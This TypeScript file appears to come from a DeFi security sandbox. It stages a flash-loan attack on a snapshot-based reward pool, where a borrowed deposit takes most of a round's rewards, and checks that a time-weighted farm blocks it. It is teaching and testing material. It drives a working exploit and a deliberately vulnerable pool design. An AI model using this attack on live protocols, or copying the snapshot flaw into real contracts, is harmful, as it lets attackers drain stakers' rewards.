import type { Interface } from "ethers";

import {
  Farm__factory,
  FlashLender__factory,
  IRewardPool__factory,
  RewardSnapshotAttacker__factory,
  RewardToken__factory,
  SnapshotRewardPool__factory,
  type FlashLender,
  type IRewardPool,
  type MockERC20,
  type RewardToken,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { commonChecks } from "./run.js";
import { send } from "./steps.js";
import type { Holdings, Scenario, World } from "./types.js";

const ONE = 10n ** 18n;
const DAY = 86_400n;

/** What alice, bob and carol stake before the round starts: 30,000 DAI together. */
export const SNAPSHOT_DEPOSITS = {
  alice: 12_000n * ONE,
  bob: 10_000n * ONE,
  carol: 8_000n * ONE,
} as const;
/** One round of rewards on both sides: SnapshotRewardPool's round, or the farm's 5-day schedule. */
export const ROUND_DURATION = 5n * DAY;
export const REWARDS_PER_ROUND = 10_800n * ONE;
/** The farm streams the same round: 0.025 RWD a second for 5 days. */
export const FARM_RATE = REWARDS_PER_ROUND / ROUND_DURATION;
/** Cap of the scenario's own reward token. */
const REWARD_CAP = 1_000_000n * ONE;
/** Seconds between the victims' deposits and the farm's start. */
const FARM_START_DELAY = 120n;

export interface RewardSnapshotWorld extends World {
  /** The pool under attack: SnapshotRewardPool, or the core Farm (pid 0, DAI). */
  pool: IRewardPool;
  dai: MockERC20;
  reward: RewardToken;
  lender: FlashLender;
  /** When the round the attacker aims at ends: victims harvest by then. */
  roundEnd: bigint;
  /** RWD the attacker's account held after the attack (read in settle). */
  attackerRewards: bigint;
}

/** Value in DAI of DAI plus RWD, at 1 DAI per RWD (the sandbox's seeded RWD price). */
async function valueOf(world: RewardSnapshotWorld, accounts: string[]): Promise<bigint> {
  let total = 0n;
  for (const account of accounts) {
    total += (await world.dai.balanceOf(account)) + (await world.reward.balanceOf(account));
  }
  return total;
}

/** Rewards paid by the balance at a snapshot that the first action of a round takes. */
export const flashLoanRewardSnapshot: Scenario<RewardSnapshotWorld> = {
  name: "flash-loan-reward-snapshot",
  title: "Flash-loan reward snapshot: a borrowed deposit takes the round",
  incident:
    "Damn Vulnerable DeFi's The Rewarder (v3): a flash-loaned deposit captures a snapshot-based reward round; the same instant-balance flaw as Beanstalk, 2022-04-17, $182M",
  fix: "the core Farm: rewards accrue per second staked, so a stake held for 0 seconds earns 0",

  async setup(env, side) {
    const { actors, sandbox, ethers, networkHelpers, log } = env;
    const { deployer } = actors;
    const dai = sandbox.dai;
    const lender = FlashLender__factory.connect(await sandbox.flashLender.getAddress(), deployer);
    const reward = await new RewardToken__factory(deployer).deploy(deployer.address, REWARD_CAP);
    await reward.waitForDeployment();
    const minter = await reward.MINTER_ROLE();

    let poolAddress: string;
    let roundEnd: bigint;
    let contract: string;
    let interfaces: Interface;
    if (side === "vulnerable") {
      const pool = await new SnapshotRewardPool__factory(deployer).deploy(
        await dai.getAddress(),
        await reward.getAddress(),
      );
      await pool.waitForDeployment();
      poolAddress = await pool.getAddress();
      roundEnd = 0n;
      contract = "SnapshotRewardPool";
      interfaces = pool.interface;
    } else {
      const now = BigInt((await ethers.provider.getBlock("latest"))?.timestamp ?? 0);
      const farm = await new Farm__factory(deployer).deploy(
        await reward.getAddress(),
        FARM_RATE,
        now + FARM_START_DELAY,
        ROUND_DURATION,
        0n,
        1n,
        deployer.address,
      );
      await farm.waitForDeployment();
      await send(farm.add(100n, await dai.getAddress()));
      poolAddress = await farm.getAddress();
      roundEnd = now + FARM_START_DELAY + ROUND_DURATION;
      contract = "Farm (core, time-weighted)";
      interfaces = farm.interface;
    }
    await send(reward.grantRole(minter, poolAddress));
    const pool = IRewardPool__factory.connect(poolAddress, deployer);

    let deposits = 0n;
    for (const name of ["alice", "bob", "carol"] as const) {
      const amount = SNAPSHOT_DEPOSITS[name];
      await send(dai.connect(actors[name]).approve(poolAddress, amount));
      await send(pool.connect(actors[name]).deposit(0n, amount, actors[name].address));
      deposits += amount;
      log(`  ${name} stakes ${formatAmount(amount, 18, "DAI")}`);
    }

    // The attacker arrives as the round opens: the next action takes the snapshot (vulnerable), or
    // the farm's stream starts (hardened).
    if (side === "vulnerable") {
      const vulnerable = SnapshotRewardPool__factory.connect(poolAddress, deployer);
      const opensAt = (await vulnerable.roundStartedAt()) + ROUND_DURATION;
      await networkHelpers.time.increaseTo(opensAt);
      roundEnd = opensAt + ROUND_DURATION;
      log(
        `  five days later round 2 is due: ${formatAmount(REWARDS_PER_ROUND, 18, "RWD")} for the deposits at its snapshot`,
      );
    } else {
      await networkHelpers.time.increaseTo(roundEnd - ROUND_DURATION);
      log(
        `  the farm starts streaming ${formatAmount(REWARDS_PER_ROUND, 18, "RWD")} over 5 days to the stakers`,
      );
    }

    return {
      side,
      env,
      attacker: actors.attacker,
      contract,
      pool,
      dai,
      reward,
      lender,
      roundEnd,
      attackerRewards: 0n,
      tracked: {
        asset: { kind: "erc20", symbol: "DAI", decimals: 18, token: dai },
        attacker: [actors.attacker.address],
        victims: [actors.alice.address, actors.bob.address, actors.carol.address],
        protocol: poolAddress,
        // Their stakes and the round's rewards, RWD counted at 1 DAI.
        victimsClaims: deposits + REWARDS_PER_ROUND,
        // The farm floors each update's reward per share: a few wei per update and per harvest.
        dust: side === "vulnerable" ? 0n : 1_000_000n,
        dustReason: "the farm's rounding down of rewards per share",
      },
      errorInterfaces: [
        interfaces,
        lender.interface,
        RewardSnapshotAttacker__factory.createInterface(),
      ],
    };
  },

  async exploit(world) {
    const { attacker, lender, pool, dai, reward, env } = world;
    const daiAddress = await dai.getAddress();
    const contract = await new RewardSnapshotAttacker__factory(attacker).deploy(
      await lender.getAddress(),
      await pool.getAddress(),
      daiAddress,
      await reward.getAddress(),
    );
    await contract.waitForDeployment();
    const amount = await lender.maxFlashLoan(daiAddress);
    const fee = await lender.flashFee(daiAddress, amount);
    env.log(
      `  attacker flash-borrows ${formatAmount(amount, 18, "DAI")} (fee ${formatAmount(fee, 18, "DAI")}), stakes it, leaves with the rewards and repays in one transaction`,
    );
    await send(dai.connect(attacker).transfer(await contract.getAddress(), fee));
    await send(contract.attack());
  },

  async settle(world) {
    const { actors, networkHelpers, log } = world.env;
    world.attackerRewards = await world.reward.balanceOf(world.attacker.address);
    log(`  the attacker came away with ${formatAmount(world.attackerRewards, 18, "RWD")}`);
    if (world.side === "hardened") await networkHelpers.time.increaseTo(world.roundEnd);
    for (const name of ["alice", "bob", "carol"] as const) {
      const account = actors[name];
      const before = await world.reward.balanceOf(account.address);
      await send(
        world.pool
          .connect(account)
          .withdrawAndHarvest(0n, SNAPSHOT_DEPOSITS[name], account.address),
      );
      const earned = (await world.reward.balanceOf(account.address)) - before;
      log(`  ${name} leaves with the stake and ${formatAmount(earned, 18, "RWD")}`);
    }
  },

  async measure(world): Promise<Holdings> {
    return {
      attacker: await valueOf(world, world.tracked.attacker),
      victims: await valueOf(world, world.tracked.victims),
      protocol: await world.dai.balanceOf(world.tracked.protocol),
    };
  },

  check(result, world) {
    const checks = commonChecks(result, world);
    const earned = formatAmount(world.attackerRewards, 18, "RWD");
    if (world.side === "vulnerable") {
      return [
        ...checks,
        {
          ok: world.attackerRewards * 2n > REWARDS_PER_ROUND,
          message: `the borrowed deposit takes most of the round (${earned} of ${formatAmount(REWARDS_PER_ROUND, 18, "RWD")})`,
        },
      ];
    }
    return [
      ...checks,
      {
        ok: world.attackerRewards === 0n,
        message: `a stake held for 0 seconds earns nothing (${earned})`,
      },
    ];
  },
};
